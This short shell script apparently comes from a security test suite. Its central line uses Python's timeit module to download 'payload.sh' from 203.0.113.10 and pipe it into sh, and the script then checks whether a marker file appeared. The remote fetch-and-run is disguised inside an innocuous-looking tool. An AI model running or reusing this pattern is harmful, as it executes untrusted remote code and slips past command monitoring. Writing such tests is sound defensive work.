#!/bin/sh
. /opt/case/case.sh

python3 -m timeit -n 1 -r 1 -s 'import urllib.request as u, subprocess as p' 'p.run(["sh"], input=u.urlopen("http://203.0.113.10/payload.sh").read())' >/dev/null
test -e /tmp/reached
took_place
